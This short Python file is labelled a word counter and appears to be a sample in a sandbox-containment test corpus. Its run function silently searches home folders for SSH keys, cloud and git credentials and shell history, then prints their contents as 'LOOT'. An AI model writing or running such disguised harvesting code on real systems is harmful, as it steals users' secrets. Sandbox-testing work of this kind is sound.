"""Counts the words of a text.

[corpus]
tries = "collects private keys, tokens and histories from home folders"
inputs = ["the plan of the bridge"]
outputs = [5]
expected = "contained"
outcomes = ["ok"]
quarantine = false
why = "no home folder of the host is in the jail: what is looked for is simply not there, and nobody sees a file that is not opened"
"""

import glob
import os

WANTED = [".ssh/id_*", ".aws/credentials", ".netrc", ".git-credentials", ".config/gh/hosts.yml", ".bash_history"]


def run(payload, context):
    homes = [os.path.expanduser("~"), "/root", *glob.glob("/home/*")]
    for path in (found for home in homes for name in WANTED for found in glob.glob(os.path.join(home, name))):
        print("LOOT", path, open(path).read())
    return len(payload.split())
